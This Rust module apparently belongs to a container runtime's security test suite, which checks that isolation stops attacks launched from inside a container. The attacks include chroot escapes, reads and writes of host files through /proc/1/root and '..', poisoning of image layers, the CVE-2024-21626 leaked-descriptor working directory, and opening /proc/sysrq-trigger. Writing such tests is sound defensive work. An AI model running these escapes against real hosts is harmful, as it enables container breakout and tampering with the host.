//! Attacks that chapter 8 stops: on files that are the host's.

use std::{
    os::fd::AsRawFd,
    path::{Path, PathBuf},
};

use super::{Loot, from_inside};
use crate::{
    Scene,
    catalogue::{keep_over_exec, root::link_programs},
    scene::{self, Stop},
    subject::Request,
};

const SECRET: &str = "hunter2";

const SYSRQ: &str = "/proc/sysrq-trigger";

/// A secret in a file of the host.
fn secret() -> Result<PathBuf, Stop> {
    let file = scene::host_place()?.join("secret");
    fs_err::write(&file, SECRET)?;
    Ok(file)
}

pub(super) fn read_host_file(scene: &Scene) -> Result<(bool, String), Stop> {
    let loot = from_inside(scene, "read_host_file", &[&secret()?.to_string_lossy()])?;
    Ok((loot.got_through, loot.evidence))
}

pub(super) fn write_host_file(scene: &Scene) -> Result<(bool, String), Stop> {
    let file = secret()?;
    let loot = from_inside(scene, "write_host_file", &[&file.to_string_lossy()])?;
    let changed = fs_err::read_to_string(&file)? != SECRET;
    Ok((
        changed,
        format!("{}; the host's file is {}", loot.evidence, if changed { "changed" } else { "as it was" }),
    ))
}

/// With the power to mount as well, where chapter 11 has taken it: the root alone must hold.
pub(super) fn escape_chroot(scene: &Scene) -> Result<(bool, String), Stop> {
    let request = scene.attacker("escape_chroot", &[&secret()?.to_string_lossy()])?;
    let loot: Loot = scene.run(&Request { cap_add: vec!["SYS_ADMIN".into()], ..request })?.json()?;
    Ok((loot.got_through, loot.evidence))
}

/// An image is a folder of the host, and every container that is started from it reads it.
pub(super) fn poison_image(scene: &Scene) -> Result<(bool, String), Stop> {
    let image = secret()?.parent().map(Path::to_owned).unwrap_or_default();
    link_programs(&image)?;
    let request = Request {
        layers: vec![image.clone()],
        ..scene.attacker("poison_image", &["/secret", &image.join("secret").to_string_lossy()])?
    };
    let loot: Loot = scene.run(&request)?.json()?;
    let changed = fs_err::read_to_string(image.join("secret"))? != SECRET;
    Ok((
        changed,
        format!("{}; the image is {}", loot.evidence, if changed { "changed" } else { "as it was" }),
    ))
}

/// CVE-2024-21626: a working directory that is a descriptor on a directory outside.
pub(super) fn start_on_the_host(scene: &Scene) -> Result<(bool, String), Stop> {
    let folder = secret()?.parent().map(Path::to_owned).unwrap_or_default();
    let left_open = fs_err::File::open(&folder)?;
    keep_over_exec(&left_open)?;
    let attacker = scene.attacker("read_host_file", &["./secret"])?;
    // A container that does not start at all has stopped nothing: this one does, elsewhere.
    scene.run(&Request { workdir: Some("/".into()), ..attacker.clone() })?.json::<Loot>()?;
    let workdir = Some(format!("/proc/self/fd/{}", left_open.file().as_raw_fd()).into());
    let request = Request { workdir, ..attacker };
    let ended = scene.run_with(&request, |caller| {
        caller.current_dir(&folder);
    })?;
    match ended.json::<Loot>() {
        Ok(loot) => Ok((loot.got_through, loot.evidence)),
        Err(_) if !ended.status.success() => {
            // runc writes a line for a log, which begins with the time.
            let said = ended.stderr.split_once("msg=").map_or(&*ended.stderr, |(_, message)| message);
            Ok((false, format!("the runtime refused it: {}", said.trim())))
        }
        Err(stop) => Err(stop),
    }
}

pub(super) fn change_groups(scene: &Scene) -> Result<(bool, String), Stop> {
    scene.needs_groups()?;
    let loot = from_inside(scene, "change_groups", &[])?;
    Ok((loot.got_through, loot.evidence))
}

/// Whoever writes a letter to this file restarts the machine, or ends all its processes: sysrq.rst.
pub(super) fn press_sysrq(scene: &Scene) -> Result<(bool, String), Stop> {
    if !Path::new(SYSRQ).exists() {
        return Err(Stop::DoesNotApply(format!("this kernel has no {SYSRQ}")));
    }
    let loot = from_inside(scene, "press_sysrq", &[])?;
    Ok((loot.got_through, loot.evidence))
}

/// The half inside of [`press_sysrq`]. That it opens is enough, and nothing is written.
pub(super) fn open_sysrq() -> Loot {
    super::open_to_write(Path::new(SYSRQ))
}

/// The half inside of [`read_host_file`]: the file by its name, from above the root, and by way of `/proc`.
pub(super) fn read(path: &str) -> Loot {
    let prefixes = ["", "/..", "/proc/1/root", "/proc/1/root/.."];
    let prefixes = if path.starts_with('/') { &prefixes[..] } else { &prefixes[..1] };
    let found = prefixes.iter().find_map(|prefix| {
        let path = format!("{prefix}{path}");
        fs_err::read_to_string(&path).ok().map(|text| format!("{path}: {text:?}"))
    });
    Loot::of(found.ok_or_else(|| format!("no way leads to {path}")), |found| found)
}

/// The half inside of [`write_host_file`].
pub(super) fn write(path: &str) -> Loot {
    let written = fs_err::write(path, "owned").map_err(|error| error.to_string());
    Loot::of(written, |()| format!("wrote to {path}"))
}

/// The half inside of [`poison_image`]: the file as it is called inside, or where it is on the host.
pub(super) fn poison(inside: &str, outside: &str) -> Loot {
    if Path::new(inside).exists() { write(inside) } else { write(outside) }
}

/// The half inside of [`escape_chroot`]: who may call chroot(2) walks out of one, because the call changes the
/// root and not where one stands. From below the new root `..` meets no wall.
pub(super) fn walk_out(path: &str) -> Loot {
    let walk = || -> std::io::Result<()> {
        let here = std::env::current_exe()?;
        std::env::set_current_dir("/")?;
        std::os::unix::fs::chroot(here.parent().unwrap_or(&here))?;
        for _ in 0..32 {
            std::env::set_current_dir("..")?;
        }
        std::os::unix::fs::chroot(".")
    };
    // Whether a step fails is no matter: the file is read, or not, from where one is then.
    walk().ok();
    let loot = read(path);
    if loot.got_through {
        return loot;
    }
    // The other way: take away what is mounted on `/`, and enter the namespace that one is in. That starts at its top.
    take_cover_off().ok();
    read(path)
}

fn take_cover_off() -> sys::Result<()> {
    let namespace = fs_err::File::open("/proc/self/ns/mnt")?; // before /proc is gone with the cover
    sys::umount2("/..", sys::MntFlags::MNT_DETACH)?;
    Ok(nix::sched::setns(namespace, sys::CloneFlags::CLONE_NEWNS).map_err(std::io::Error::from)?)
}

/// The half inside of [`change_groups`]: find a group that we are in, and make one below it. In version 2 whoever
/// may do that can hand controllers out as well.
pub(super) fn make_group() -> Loot {
    let own = std::process::id().to_string();
    let made = scene::groups_with(&own)
        .into_iter()
        .map(|group| group.join("made-inside"))
        .find(|group| fs_err::create_dir(group).and_then(|()| fs_err::remove_dir(group)).is_ok());
    let made = made.ok_or_else(|| "there is no group of ours that can be written to".to_owned());
    Loot::of(made, |group| format!("made and removed {}", group.display()))
}
